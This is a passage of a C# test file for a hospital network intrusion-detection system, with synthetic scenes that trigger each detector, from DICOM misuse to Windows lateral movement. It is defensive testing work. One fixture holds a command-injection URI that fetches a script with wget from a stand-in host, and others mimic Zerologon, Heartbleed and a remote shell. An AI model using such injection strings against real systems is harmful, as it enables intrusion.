using Wardkeeper.Hub.Detection;
using Wardkeeper.Hub.Findings;
using Wardkeeper.Hub.Intelligence;
using Wardkeeper.Hub.Register;
using Wardkeeper.Hub.Trust;
using Wardkeeper.Sensor.Observations;

namespace Wardkeeper.Hub.Tests.Detection;

/// <summary>Each detector fires on what it is for, and is silent on what looks like it. All registered detectors run in every scene.</summary>
public class DetectorTests
{
    private const string A = "00:1b:21:00:00:0a", B = "00:1b:21:00:00:0b";

    /// <summary>One scene for each type of finding; a type without one fails the test below.</summary>
    private static readonly Dictionary<string, Func<Scene>> Scenes = new(StringComparer.Ordinal)
    {
        ["database-offered"] = () => new Scene().Flow("10.0.1.5", "10.0.9.9", 3306),
        ["remote-desktop-offered"] = () => new Scene().Flow("10.0.1.5", "10.0.9.9", 3389, "rdp"),
        ["remote-tool-used"] = () => new Scene().Claims("10.0.9.9", ClaimKind.RemoteAccess, "TeamViewer", "ssl", "server name"),
        ["file-share-offered"] = () => new Scene().Flow("10.0.1.5", "10.0.9.9", 445, "smb"),
        ["outdated-system"] = () => new Scene().Later(ExposureTests.To2026).Claims("10.0.9.9", ClaimKind.OperatingSystem, "Windows XP (5.1.2600)", "smb", "NTLM version"),
        ["weak-password"] = () => new Scene().Claims("10.0.9.9", ClaimKind.WeakPassword, "admin: guessable", "ftp", "PASS"),
        ["test-system-left"] = () => new Scene().Claims("10.0.9.9", ClaimKind.HostName, "his-uat2").Reviewed(),
        ["device-in-wrong-network"] = () => ExposureTests.Network(9, 1).Reviewed(),
        ["mixed-network"] = () => ExposureTests.Network(5, 5).Reviewed(),
        ["private-access-point"] = () => new Scene().Beacon(A, "TP-LINK_4F10"),
        ["foreign-dhcp-server"] = () => new Scene("servers: [{address: 10.0.1.1, roles: [dhcp]}]").Claims("10.0.9.9", ClaimKind.Role, "dhcp-server", "dhcp", "reply", A),
        ["several-systems-behind-one-card"] = () => new Scene().Claims("10.0.9.9", ClaimKind.TcpStack, "ttl=64;win=1", "tcp", "SYN", A).Claims("10.0.9.9", ClaimKind.TcpStack, "ttl=128;win=1", "tcp", "SYN", A).Reviewed(),
        ["device-not-seen"] = () => new Scene().Owns(Pump() with { Person = "Li Na", IsKnownToPeople = true, LastSeen = CaptureTime.FromSeconds(5) }).Later(TimeSpan.FromDays(31)).Reviewed(),
        ["management-page-offered"] = () => new Scene().Page("10.0.9.9", 80, "10.0.1.5", realm: "Pump setup"),
        ["cleartext-medical-traffic"] = () => new Scene().Flow("10.0.1.5", "10.0.9.9", 104, "dicom"),
        ["dicom-caller-unknown"] = () => DicomScenes.Watched().Associates("10.0.1.7", "NEW_1"),
        ["dicom-title-taken"] = () => DicomScenes.Watched().Associates("10.0.1.7", "CT_1"),
        ["dicom-program-changed"] = () => DicomScenes.Watched().Associates("10.0.1.5", "CT_1", "9.9.9", "OTHER"),
        ["dicom-title-guessing"] = () => DicomScenes.Guessed(8),
        ["dicom-beyond-role"] = () => DicomScenes.Storing().Exchanges("C-GET", "\"service\":\"query-retrieve\",\"study_uid\":\"1.2\",\"completed_sub_operations\":3"),
        ["dicom-foreign-images"] = () => DicomScenes.Storing().Stores("10.0.1.5", "9.1", "Ultrasound Image Storage"),
        ["dicom-delete"] = () => new Scene().Exchanges("N-DELETE", "\"sop_class\":\"1.2.840.10008.5.1.4.1.1.2\",\"status_class\":\"success\""),
        ["dicom-harvest"] = () => new Scene().Finds("").Fetches(8),
        ["dicom-query-sweep"] = () => DicomScenes.Many(new Scene(), 8, scene => scene.Finds("\"PatientID\"", 10)),
        ["dicom-move-destination"] = () => DicomScenes.Watched().Moves("GHOST"),
        ["dicom-moved-outside"] = () => new Scene().Says("dicom", "10.0.9.9", "203.0.113.5", 104, DicomScenes.Association("PACS_1", "FAR_1", more: ",\"move_originator\":\"WS_1\"")),
        ["dicom-object-changed"] = () => new Scene().Stores("10.0.1.5", "1.1").Stores("10.0.1.7", "1.1", digest: "bb"),
        ["dicom-object-deleted"] = () => new Scene().Web("search").Deletes("10.0.1.7"),
        ["dicom-malformed"] = () => new Scene().Malformed("10.0.1.5", "dicom.pdv-length", "dicom.pdu-length", "dicom.unknown-command"),
        ["two-faced-dicom-file"] = () => new Scene().Web("store", ",\"two_faced_file\":\"windows-program\",\"is_sent\":true"),
        ["outdated-tls"] = () => new Scene().Tls("10.0.1.5", "10.0.9.9", """{"version":"TLSv10","cipher":"TLS_RSA_WITH_AES_128_CBC_SHA","offered_version":"TLSv13","established":true}"""),
        ["certificate-expired"] = () => new Scene().Later(TimeSpan.FromDays(400)).Knows(Pump()).Tls("10.0.1.5", "10.0.9.9", """{"version":"TLSv12","established":true,"subject":"CN=pump","not_valid_after":1000}""").Reviewed(),
        ["certificate-self-signed"] = () => new Scene().Knows(Pump()).Tls("10.0.1.5", "10.0.9.9", """{"version":"TLSv12","established":true,"subject":"CN=pump","not_valid_after":4000000000,"self_signed":true}""").Reviewed(),
        ["cleartext-administration"] = () => new Scene().Flow("10.0.1.5", "10.0.9.9", 23),
        ["address-shared"] = () => new Scene().Arp(A, "10.0.9.9", "10.0.1.1").Arp(B, "10.0.9.9", "10.0.1.1").Arp(A, "10.0.9.9", "10.0.1.1"),
        ["gateway-spoofed"] = () => NetworkAttackTests.Leased().Arp(A, "10.0.9.1", "10.0.9.5").Arp(B, "10.0.9.1", "10.0.9.5"),
        ["foreign-router"] = () => NetworkAttackTests.Announced(new Scene().Row("nd", """{"op":"neighbour-solicitation"}""", vlan: 7).Later(TimeSpan.FromHours(2)), A),
        ["router-announcement-flood"] = () => NetworkAttackTests.Flood(20),
        ["foreign-name-server"] = () => NetworkAttackTests.Resolved("10.0.1.66", "93.184.216.34"),
        ["name-answers-forged"] = () => NetworkAttackTests.Forged(4),
        ["evil-twin"] = () => NetworkAttackTests.Cell(A, "wpa2-enterprise", "open", "wpa2-enterprise"),
        ["deauthentication-flood"] = () => NetworkAttackTests.Farewells(1, unshown: 40),
        ["device-impersonated"] = () => ImpersonationTests.Laptop(ImpersonationTests.Kiosk()),
        ["port-scan"] = () => ScanTests.Vertical(15),
        ["address-sweep"] = () => ScanTests.Sweep(64),
        ["medical-service-sweep"] = () => ScanTests.Horizontal(4, 104),
        ["brute-force"] = () => GuessingTests.Fails(10),
        ["password-spraying"] = () => GuessingTests.Sprays(8),
        ["default-passwords-tried"] = () => GuessingTests.Defaults(3),
        ["address-reused"] = () => new Scene().Knows(Old()).Knows(New()).Moves("10.0.9.9", A, B).Passes(TimeSpan.FromMinutes(6)),
        ["inherited-reach"] = () => new Scene("declaredScanners: 10.0.9.9").Knows(Old()).Knows(New()).Moves("10.0.9.9", A, B, isLeased: true).Passes(TimeSpan.FromMinutes(6)),
        ["device-without-owner"] = () => new Scene().Owns(Pump() with { FirstSeen = CaptureTime.FromSeconds(0), LastSeen = CaptureTime.FromSeconds(100_000) }).Later(TimeSpan.FromDays(2)).Reviewed(),
        ["retired-but-alive"] = () => new Scene().Owns(Pump() with { Person = "Li Na", LifeCycle = "retired", LifeCycleSince = CaptureTime.FromSeconds(5), LastSeen = CaptureTime.FromSeconds(9) }).Reviewed(),
        ["service-published-outside"] = () => new Scene().Knows(Pump()).Published(Service(443)).Reviewed(),
        ["message-replayed"] = () => new Scene().Hl7(MedicalScenes.Lis, MedicalScenes.His, "1").Hl7(MedicalScenes.Rogue, MedicalScenes.His, "1"),
        ["message-altered"] = () => new Scene().Hl7(MedicalScenes.Lis, MedicalScenes.His, "1", digest: "a").Hl7(MedicalScenes.Rogue, MedicalScenes.His, "1", digest: "b"),
        ["result-altered"] = () => new Scene().Hl7(MedicalScenes.Lis, MedicalScenes.His, "1", digest: "a", more: MedicalScenes.Result("v1")).Hl7(MedicalScenes.Lis, MedicalScenes.His, "2", digest: "b", more: MedicalScenes.Result("v2")),
        ["result-of-another-patient"] = () => MedicalDetectorTests.Ordered(MedicalDetectorTests.Ordered(new Scene(), 10, "p1"), 1, "p2", 10),
        ["message-sender-impersonated"] = () => new Scene().Hl7(MedicalScenes.Lis, MedicalScenes.His, "1", name: "P^EUI-64").Hl7(MedicalScenes.Rogue, MedicalScenes.His, "2", name: "P^EUI-64", digest: "b"),
        ["message-sender-unknown"] = () => new Scene().Hl7Many(120, TimeSpan.FromHours(2), MedicalScenes.Lis, MedicalScenes.His).Hl7("10.0.1.7", MedicalScenes.His, "x", name: "N1"),
        ["message-outside-role"] = () => new Scene().Hl7Many(25, TimeSpan.FromMinutes(20), MedicalScenes.Lis, MedicalScenes.His).Hl7(MedicalScenes.Lis, MedicalScenes.His, "x", "ORM^O01"),
        ["message-framing-abuse"] = () => new Scene().Hl7(MedicalScenes.Lis, MedicalScenes.His, "1", more: ""","framing_faults":9"""),
        ["message-escape-injection"] = () => new Scene().Hl7(MedicalScenes.Lis, MedicalScenes.His, "1", more: ""","injection":"frame" """),
        ["message-segment-flood"] = () => new Scene().Hl7(MedicalScenes.Lis, MedicalScenes.His, "1", more: ""","segment_counts":[1,30000]"""),
        ["clinical-data-queried"] = () => new Scene().Hl7Many(120, TimeSpan.FromMinutes(15), MedicalScenes.Lis, MedicalScenes.His).Hl7("10.0.1.7", MedicalScenes.His, "q", "QRY^A19", "EXT"),
        ["infusion-order-foreign"] = () => new Scene().Hl7(MedicalScenes.Lis, MedicalScenes.His, "1", "RDE^O11", more: MedicalScenes.Gives(5)).Hl7(MedicalScenes.Rogue, MedicalScenes.His, "2", "RDE^O11", digest: "b", more: MedicalScenes.Gives(200, control: "XO")),
        ["infusion-amount-unusual"] = () => MedicalDetectorTests.Infused(25, TimeSpan.FromHours(1)).Hl7(MedicalScenes.Lis, MedicalScenes.His, "x", "RDE^O11", digest: "z", more: MedicalScenes.Gives(200, "rx9")),
        ["vital-signs-frozen"] = () => DeviceSignalTests.Still(12, TimeSpan.FromMinutes(1)),
        ["vital-signs-copied"] = () => DeviceSignalTests.Played(10, 30),
        ["connection-cut-forged"] = () => DeviceSignalTests.In("""{"kind":"abort","is_orig":true}""", """{"kind":"poll"}""", """{"kind":"poll"}"""),
        ["alarm-suppressed"] = () => new Scene().Sdc(MedicalScenes.Rogue, "SetAlertState", ""","alarms_silenced":1"""),
        ["clock-jump"] = () => DeviceSignalTests.Agreed(6).Time(MedicalScenes.Bedside, "10.0.0.1", ofServer: 7200),
        ["time-server-changed"] = () => DeviceSignalTests.Changed("10.0.0.1"),
        ["device-clock-off"] = () => DeviceSignalTests.Stamped(new Scene(), 15, _ => 700, "+0000").Reviewed(),
        ["firmware-outside-maintenance"] = () => DeviceSignalTests.Pump(DeviceSignalTests.Window).Says("snmp", MedicalScenes.Rogue, MedicalScenes.Bedside, 161, """{"set_requests":1}"""),
        ["service-login-outside-maintenance"] = () => DeviceSignalTests.Pump(DeviceSignalTests.Window).Says("ssh_session", MedicalScenes.Rogue, MedicalScenes.Bedside, 22, """{"shape":"interactive"}"""),
        ["remote-service-created"] = () => WindowsDetectorTests.Call("svcctl", "CreateServiceW", "svc", "C:\\tool.exe"),
        ["remote-task-created"] = () => WindowsDetectorTests.Call("atsvc", "NetrJobAdd"),
        ["remote-wmi-execution"] = () => WindowsDetectorTests.Call("IWbemServices", "ExecMethod"),
        ["remote-dcom-execution"] = () => new Scene().Says("dce_rpc", "10.0.1.5", "10.0.9.9", 49_700, """{"endpoint":"unknown-00020400-0000-0000-c000-000000000046","operation":"unknown-6","opnum":6}"""),
        ["remote-shell-opened"] = () => new Scene().Says("winrm", "10.0.1.5", "10.0.9.9", 5985, """{"action":"Command","resource":"windows/shell/cmd","command":"whoami","status_code":200}"""),
        ["zerologon"] = () => new Scene().Says("dce_rpc", "10.0.1.5", "10.0.9.9", 49_668, """{"endpoint":"netlogon","operation":"NetrServerReqChallenge","zero_challenge":true}"""),
        ["forced-authentication"] = () => WindowsDetectorTests.Call("efsrpc", "EfsRpcOpenFileRaw", "\\\\10.0.1.5\\share\\a"),
        ["directory-copied"] = () => WindowsDetectorTests.Call("drsuapi", "DRSGetNCChanges"),
        ["service-tickets-harvested"] = () => WindowsDetectorTests.Tickets(10, "rc4-hmac"),
        ["log-in-without-proof"] = () => WindowsDetectorTests.LogIns(3),
        ["log-in-relayed"] = () => WindowsDetectorTests.Relay(445),
        ["remote-desktop-chain"] = () => WindowsDetectorTests.Chain("10.0.1.5", "10.0.1.25", "10.0.1.35"),
        ["files-replaced"] = () => WindowsDetectorTests.Sweep(12, ".locked", isRead: true),
        ["beacon"] = () => OutsideDetectorTests.Beats(12),
        ["dns-tunnel"] = () => OutsideDetectorTests.Names(10, "NULL", 40),
        ["random-names"] = () => OutsideDetectorTests.Missing(20, isRandom: true),
        ["ping-tunnel"] = () => new Scene().Conversation("10.0.1.5", "203.0.113.9", 0, Carrier.Icmp, sent: 2000, answered: 90_000, packets: 100, answers: 100, fromPort: 8),
        ["tls-to-unnamed-host"] = () => new Scene().Tls("10.0.1.5", "203.0.113.9", """{"version":"TLSv12","established":true,"self_signed":true,"subject":"CN=x"}""", 6606),
        ["protocol-on-foreign-port"] = () => new Scene().Conversation("10.0.1.5", "203.0.113.9", 443, service: "ssh"),
        ["unknown-protocol-on-web-port"] = () => new Scene().Conversation("10.0.1.5", "203.0.113.9", 443, sent: 4000, answered: 300),
        ["tls-to-another-name"] = () => OutsideDetectorTests.Fronted("cdn.example.org", "evil.example.com"),
        ["connection-flood"] = () => OutsideDetectorTests.Opened(600),
        ["packet-flood"] = () => new Scene().Conversation("10.0.1.5", "10.0.9.9", 7000, Carrier.Udp, sent: 9_000_000, answered: 0, packets: 100_000, answers: 0, seconds: 5),
        ["amplifier-abused"] = () => new Scene().Conversation("203.0.113.9", "10.0.9.9", 123, Carrier.Udp, "ntp", sent: 5000, answered: 400_000, packets: 500, answers: 1000, seconds: 20),
        ["slow-requests"] = () => OutsideDetectorTests.Slow(40),
        ["crash-packet"] = () => new Scene().Claims("10.0.1.5", ClaimKind.Anomaly, "urgent pointer of zero (CVE-2019-12255)", "tcp", "tcp urgent pointer"),
        ["stream-evasion"] = () => new Scene().Claims("10.0.1.5", ClaimKind.Anomaly, "stream overlap with different content", "tcp", "tcp segments"),
        ["signature-alert"] = () => new Scene().Says("alerts", "203.0.113.9", "10.0.9.9", 80, """{"signature_id":2024897,"msg":"a known attack","priority":1,"direction":"to_server","classtype":"web-application-attack","packet":7}"""),
        ["indicator-hit"] = () => new Scene(indicators: IndicatorSet.Of([new Indicator(IndicatorKind.Address, "203.0.113.9") { Source = "a list" }])).Conversation("10.0.1.5", "203.0.113.9", 443, service: "ssl"),
        ["indicator-past"] = () => new Scene().Past(IndicatorSet.Of([new Indicator(IndicatorKind.Address, "203.0.113.9") { Source = "a list" }]), "10.0.1.5", "203.0.113.9"),
        ["heartbleed"] = () => new Scene().Tls("10.0.1.5", "10.0.9.9", """{"version":"TLSv12","heartbeat_overread":16381}"""),
        ["web-attack"] = () => new Scene().Says("http", "10.0.1.5", "10.0.9.9", 80, """{"method":"GET","uri":"/cgi?x=;wget http://203.0.113.9/a.sh","status_code":404}"""),
        ["upload-to-unnamed-host"] = () => new Scene().Says("http", "10.0.1.5", "203.0.113.9", 7080, """{"method":"POST","host":"203.0.113.9:7080","uri":"/x","user_agent":"Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Trident/7.0)","status_code":200}"""),
        ["identity-at-two-places"] = () => IdentityTests.InTurn("10.0.1.5", "10.0.1.6", "10.0.1.5"),
        ["key-of-two-devices"] = () => new Scene().Notices(TrustEventKind.Presented, "10.0.1.5").Notices(TrustEventKind.Presented, "10.0.1.6", 18, "02"),
        ["certificate-at-other-device"] = () => new Scene().Knows(IdentityTests.Device(18, "10.0.1.5")).Notices(TrustEventKind.Presented, "10.0.1.5"),
        ["telemetry-replayed"] = () => new Scene().Notices(TrustEventKind.Replayed, "10.0.1.5"),
        ["telemetry-counter-back"] = () => new Scene().Notices(TrustEventKind.CounterBack, "10.0.1.5"),
        ["boot-id-reused"] = () => new Scene().Notices(TrustEventKind.BootReused, "10.0.1.5"),
        ["boot-state-changed"] = () => new Scene().Notices(TrustEventKind.QuoteChanged, "10.0.1.5"),
        ["chip-replaced"] = () => new Scene().Notices(TrustEventKind.ClockBack, "10.0.1.5"),
        ["sensor-drops-packets"] = () => new Scene().Counts(("packets", 1000), ("kernel-drops", 10)),
        ["one-sided-traffic"] = () => Many(60, scene => scene.Flow("10.0.1.5", "10.0.9.9", 8080, state: "OTH", history: "DA", answered: 0)).Counts(("packets", 1000)),
        ["capture-gaps"] = () => new Scene().Flow("10.0.1.5", "10.0.9.9", 8080, answered: 2_000_000, missed: 100_000).Counts(("packets", 1000)),
        ["sensor-clock-jumps"] = () => new Scene().Counts(("packets", 1000), ("clock-jump", 1)),
    };

    public static TheoryData<string> Types => [.. OfDetectors.Order(StringComparer.Ordinal)];

    private static IEnumerable<string> OfDetectors => DetectorRegistry.All.SelectMany(detector => detector.Info.Types).Select(type => type.Name).Distinct();

    [Fact]
    public void Every_type_of_finding_has_a_scene() =>
        Assert.Equal(OfDetectors.Order(StringComparer.Ordinal), Scenes.Keys.Order(StringComparer.Ordinal));

    [Theory]
    [MemberData(nameof(Types))]
    public void Fires_on_its_scene_and_nothing_else_does(string type) => Scenes[type]().Fires(type);

    [Fact]
    public void A_database_port_is_told_with_who_reached_it_and_once()
    {
        Finding finding = new Scene("networks: [{network: 10.0.1.0/24, name: Wards}]").Flow("10.0.1.5", "10.0.9.9", 5432).Flow("10.0.2.5", "10.0.9.9", 5432).Flow("10.0.1.6", "10.0.9.9", 5432).Fires("database-offered");
        Assert.Equal(["Wards", "10.0.2.0/24"], finding.ReachedFrom);
        Assert.Equal(3, finding.Count);
        Assert.Equal("PostgreSQL takes connections on tcp/5432, reached from Wards", finding.Title.In(chinese: false));
        Assert.Equal(Severity.Medium, finding.Severity);
    }

    [Fact]
    public void A_new_description_of_the_site_holds_from_the_next_batch_on()
    {
        const string scanner = "declaredScanners: 10.0.1.5";
        new Scene().Described(scanner, beginsBatch: true).Flow("10.0.1.5", "10.0.9.9", 5432).IsSilent();
        new Scene().Described(scanner, beginsBatch: false).Flow("10.0.1.5", "10.0.9.9", 5432).Fires("database-offered");
        new Scene(scanner).Described("", beginsBatch: true).Flow("10.0.1.5", "10.0.9.9", 5432).Fires("database-offered");
    }

    [Fact]
    public void A_database_reached_from_outside_weighs_more() =>
        Assert.Equal(Severity.High, new Scene("servers: [{address: 10.0.9.9, roles: [database]}]").Flow("203.0.113.5", "10.0.9.9", 3306).Fires("database-offered").Severity);

    [Fact]
    public void A_database_port_is_not_offered_when_nobody_answered_or_another_protocol_lives_there()
    {
        new Scene().Flow("10.0.1.5", "10.0.9.9", 3306, state: "REJ", history: "Sr").IsSilent();
        new Scene().Flow("10.0.1.5", "10.0.9.9", 3306, state: "S0", history: "S").IsSilent();
        new Scene().Flow("10.0.1.5", "10.0.9.9", 3306, "http").IsSilent();
        new Scene().Flow("10.0.1.5", "203.0.113.5", 3306).IsSilent();
        new Scene().Flow("10.0.1.5", "10.0.9.9", 50_000, parents: ["Ccontrol"]).IsSilent();
    }

    [Fact]
    public void Declared_servers_and_scanners_are_not_held_against_anybody()
    {
        new Scene("servers: [{address: 10.0.9.9, roles: [database]}]").Flow("10.0.1.5", "10.0.9.9", 3306).IsSilent();
        Scene scanned = new("declaredScanners: [10.0.1.5]");
        scanned.Flow("10.0.1.5", "10.0.9.9", 3306).Flow("10.0.1.5", "10.0.9.9", 23).Flow("10.0.1.5", "10.0.9.9", 104, "dicom").Page("10.0.9.9", 80, "10.0.1.5", realm: "setup")
            .Tls("10.0.1.5", "10.0.9.9", """{"version":"SSLv3","established":true}""").IsSilent();
    }

    [Fact]
    public void An_ordinary_page_is_no_management_page()
    {
        new Scene().Page("10.0.9.9", 80, "10.0.1.5", title: "Canteen: what is for lunch", software: "nginx/1.24").IsSilent();
        new Scene().Page("203.0.113.5", 80, "10.0.1.5", title: "Login").IsSilent();
        new Scene().Page("10.0.9.9", 8080, "10.0.1.5", title: "PACS 登录").Fires("management-page-offered");
    }

    [Fact]
    public void Encrypted_medical_traffic_is_no_finding_and_each_pair_is_one()
    {
        new Scene().Flow("10.0.1.5", "10.0.9.9", 2762, "dicom,ssl").IsSilent();
        new Scene().Flow("10.0.1.5", "10.0.9.9", 80, "http").IsSilent();
        Scene pairs = new Scene().Flow("10.0.1.5", "10.0.9.9", 104, "dicom").Flow("10.0.1.5", "10.0.9.9", 104, "dicom").Flow("10.0.1.6", "10.0.9.9", 104, "dicom").Flow("10.0.1.6", "10.0.9.9", 2575, "hl7");
        Assert.Equal([2, 1, 1], pairs.Findings.Select(finding => finding.Count));
        Assert.Equal(Severity.High, new Scene().Flow("10.0.1.5", "203.0.113.9", 104, "dicom").Fires("cleartext-medical-traffic").Severity);
    }

    [Fact]
    public void Outdated_tls_blames_the_side_that_cannot_do_better()
    {
        Assert.Equal("10.0.1.5", new Scene().Tls("10.0.1.5", "203.0.113.9", """{"version":"TLSv10","offered_version":"TLSv10","established":true}""").Fires("outdated-tls").Subject.Address);
        Assert.Equal(Severity.High, new Scene().Tls("10.0.1.5", "10.0.9.9", """{"version":"SSLv3","offered_version":"TLSv12","established":true}""").Fires("outdated-tls").Severity);
        new Scene().Tls("10.0.1.5", "203.0.113.9", """{"version":"TLSv10","offered_version":"TLSv13","established":true}""").IsSilent();
        new Scene().Tls("10.0.1.5", "10.0.9.9", """{"version":"TLSv12","cipher":"TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256","established":true}""").IsSilent();
        new Scene().Tls("10.0.1.5", "10.0.9.9", """{"version":"TLSv10","last_alert":"protocol_version","established":false}""").IsSilent();
    }

    [Fact]
    public void Certificates_count_on_medical_devices_alone()
    {
        const string Expired = """{"version":"TLSv12","established":true,"subject":"CN=x","not_valid_after":1000}""";
        new Scene().Later(TimeSpan.FromDays(400)).Knows(Pump() with { Type = "server", Category = "it" }).Tls("10.0.1.5", "10.0.9.9", Expired).Reviewed().IsSilent();
        new Scene().Later(TimeSpan.FromDays(400)).Tls("10.0.1.5", "10.0.9.9", Expired).Reviewed().IsSilent();
        // What it is may become clear after its certificate was seen.
        Scene late = new Scene().Later(TimeSpan.FromDays(400)).Tls("10.0.1.5", "10.0.9.9", Expired).Reviewed();
        late.IsSilent();
        late.Knows(Pump()).Reviewed().Fires("certificate-expired");
    }

    [Fact]
    public void Telnet_inside_an_announced_window_is_only_told()
    {
        const string Window = "maintenanceWindows: [{name: CT service, devices: [10.0.9.9], from: '1970-01-01T00:00:00Z', until: '1970-01-01T01:00:00Z'}]";
        Assert.Equal(Severity.Info, new Scene(Window).Flow("10.0.1.5", "10.0.9.9", 23).Fires("cleartext-administration").Severity);
        Assert.Equal(Severity.Medium, new Scene(Window).Later(TimeSpan.FromHours(2)).Flow("10.0.1.5", "10.0.9.9", 23).Fires("cleartext-administration").Severity);
        new Scene().Flow("10.0.1.5", "10.0.9.9", 23, answered: 0).IsSilent();
        new Scene().Flow("10.0.1.5", "10.0.9.9", 21, "ssh").IsSilent();
    }

    [Fact]
    public void An_address_that_moves_by_announcement_or_lease_is_not_shared()
    {
        // Fail-over: the new holder announces itself (target is its own address), and so does the old one when it comes back.
        new Scene().Arp(A, "10.0.9.9", "10.0.1.1").Arp(B, "10.0.9.9", "10.0.9.9").Arp(B, "10.0.9.9", "10.0.1.1").Arp(A, "10.0.9.9", "10.0.9.9").Arp(A, "10.0.9.9", "10.0.1.1").IsSilent();
        new Scene().Arp(A, "10.0.9.9", "10.0.1.1").Lease(B, "10.0.9.9").Arp(B, "10.0.9.9", "10.0.1.1").IsSilent();
        // A card was replaced: the first one never comes back.
        new Scene().Arp(A, "10.0.9.9", "10.0.1.1").Arp(B, "10.0.9.9", "10.0.1.1").Arp(B, "10.0.9.9", "10.0.1.1").IsSilent();
        // It comes back the next day.
        new Scene().Arp(A, "10.0.9.9", "10.0.1.1").Arp(B, "10.0.9.9", "10.0.1.1").Later(TimeSpan.FromDays(1)).Arp(A, "10.0.9.9", "10.0.1.1").IsSilent();
        new Scene().Arp("00:00:5e:00:01:0a", "10.0.9.9", "10.0.1.1").Arp(B, "10.0.9.9", "10.0.1.1").Arp("00:00:5e:00:01:0a", "10.0.9.9", "10.0.1.1").IsSilent();
    }

    [Fact]
    public void A_holder_that_still_sends_from_its_address_shows_that_it_is_shared()
    {
        new Scene().Arp(A, "10.0.9.9", "10.0.1.1").Arp(B, "10.0.9.9", "10.0.1.1").Flow("10.0.9.9", "10.0.1.1", 80, fromMac: A, vlan: 7).Fires("address-shared");
        new Scene().Arp(A, "10.0.9.9", "10.0.1.1").Arp(B, "10.0.9.9", "10.0.9.9").Flow("10.0.9.9", "10.0.1.1", 80, fromMac: A, vlan: 7).IsSilent();
    }

    [Fact]
    public void A_machine_that_answers_for_many_is_not_on_their_addresses()
    {
        Scene proxy = new();
        for (int i = 1; i <= 40; i++) proxy.Arp(B, $"10.0.8.{i}", "10.0.1.1");
        proxy.Arp(A, "10.0.9.9", "10.0.1.1").Arp(B, "10.0.9.9", "10.0.1.1").Arp(A, "10.0.9.9", "10.0.1.1").IsSilent();
    }

    [Fact]
    public void Two_that_quarrel_for_long_are_one_finding()
    {
        Scene scene = new();
        for (int i = 0; i < 20; i++) scene.Arp(A, "10.0.9.9", "10.0.1.1").Arp(B, "10.0.9.9", "10.0.1.1");
        Finding finding = scene.Fires("address-shared");
        Assert.True(finding.Count > 10);
        Assert.InRange(finding.Evidence.Count, 2, Finding.EvidenceKept);
    }

    [Fact]
    public void A_device_is_without_owner_only_where_owners_are_kept_and_after_a_day()
    {
        DeviceFacts pump = Pump() with { FirstSeen = CaptureTime.FromSeconds(0), LastSeen = CaptureTime.FromSeconds(100_000) };
        new Scene().Knows(pump).Later(TimeSpan.FromDays(2)).Reviewed().IsSilent();
        new Scene().Owns(pump with { LastSeen = CaptureTime.FromSeconds(50_000) }).Later(TimeSpan.FromDays(1)).Reviewed().IsSilent();
        new Scene().Owns(pump with { Department = "ICU" }).Later(TimeSpan.FromDays(2)).Reviewed().IsSilent();
        Assert.Equal(Severity.Low, new Scene().Owns(pump).Later(TimeSpan.FromDays(2)).Reviewed().Fires("device-without-owner").Severity);
    }

    [Fact]
    public void A_retired_device_that_was_last_seen_before_is_silent()
    {
        DeviceFacts retired = Pump() with { Person = "Li Na", LifeCycle = "scrapped", LifeCycleSince = CaptureTime.FromSeconds(50), LastSeen = CaptureTime.FromSeconds(40) };
        new Scene().Owns(retired).Reviewed().IsSilent();
        new Scene().Owns(retired with { LifeCycle = "deployed", LastSeen = CaptureTime.FromSeconds(60) }).Reviewed().IsSilent();
    }

    [Fact]
    public void Small_losses_and_single_probes_are_no_trouble()
    {
        new Scene().Counts(("packets", 1_000_000), ("kernel-drops", 3)).IsSilent();
        Many(200, scene => scene.Flow("10.0.1.5", "10.0.9.9", 8080, state: "S0", history: "S", sent: 0, answered: 0)).Counts(("packets", 1000)).IsSilent();
        new Scene().Flow("10.0.1.5", "10.0.9.9", 8080, state: "OTH", history: "G", sent: 2_000_000_000, answered: 0, missed: 2_000_000_000).Counts(("packets", 1000)).IsSilent();
        Many(200, scene => scene.Flow("10.0.1.5", "10.0.9.9", 8080)).Counts(("packets", 1000)).IsSilent();
    }

    [Fact]
    public void What_needs_a_register_says_that_it_cannot_fire_without_one()
    {
        Assert.Equal(["device-without-owner", "device-not-seen", "retired-but-alive", "published-outside"], DetectorRegistry.CannotFire(new Empty(), hasPublishing: false).Select(one => one.Detector));
        Assert.DoesNotContain("published-outside", DetectorRegistry.CannotFire(new Empty(), hasPublishing: true).Select(one => one.Detector));
    }

    [Fact]
    public void A_published_service_is_told_with_its_rule_and_weighs_more_where_it_hurts()
    {
        Finding web = new Scene().Published(Service(443)).Reviewed().Fires("service-published-outside");
        Assert.Equal("10.0.9.9 is published outside: 203.0.113.5:443 leads to 10.0.9.9:443", web.Title.In(chinese: false));
        Assert.Equal((Severity.Medium, 443), (web.Severity, web.Subject.Port));
        Assert.Equal(Severity.High, new Scene().Published(Service(3306)).Reviewed().Fires("service-published-outside").Severity);
        Assert.Equal(Severity.High, new Scene().Published(Service(3380, 3390)).Reviewed().Fires("service-published-outside").Severity);
        Assert.Equal(Severity.High, new Scene().Knows(Pump()).Published(Service(443)).Reviewed().Fires("service-published-outside").Severity);
    }

    [Fact]
    public void A_service_that_is_published_no_more_ends_its_finding_and_opens_it_again_when_it_comes_back()
    {
        Scene scene = new Scene().Published(Service(443), Service(22)).Reviewed();
        Assert.Equal([FindingState.New, FindingState.New], scene.Findings.Select(finding => finding.State));
        scene.Published(Service(22)).Reviewed();
        Assert.Equal([FindingState.Closed, FindingState.New], scene.Findings.Select(finding => finding.State));
        Assert.Equal(1, Assert.Single(scene.Book.Ended).Number);
        scene.Published(Service(443)).Reviewed();
        Assert.Equal([FindingState.New, FindingState.Closed], scene.Findings.Select(finding => finding.State));
        Assert.Equal(1, scene.Findings[0].Reopened);
        scene.Published().Reviewed();
        Assert.All(scene.Findings, finding => Assert.Equal(FindingState.Closed, finding.State));
    }

    [Fact]
    public void An_address_that_went_to_another_device_is_told_with_both_and_the_gap()
    {
        Finding finding = new Scene().Later(TimeSpan.FromDays(3)).Knows(Old()).Knows(New()).Moves("10.0.9.9", A, B, silent: 7_200).Passes(TimeSpan.FromMinutes(6)).Fires("address-reused");
        Assert.Equal("10.0.9.9 went from Old PC to New PC", finding.Title.In(chinese: false));
        Assert.Equal((Severity.Low, 8L, 7L), (finding.Severity, finding.Subject.Device!.Id, finding.Peer!.Device!.Id));
        Assert.Equal("2 h", finding.Facts.Single(fact => fact.Name == "gap").Observed);
        Assert.Equal("1970-01-03 22:00:01 UTC", finding.Facts.Single(fact => fact.Name == "old-last-seen").Observed);
    }

    [Fact]
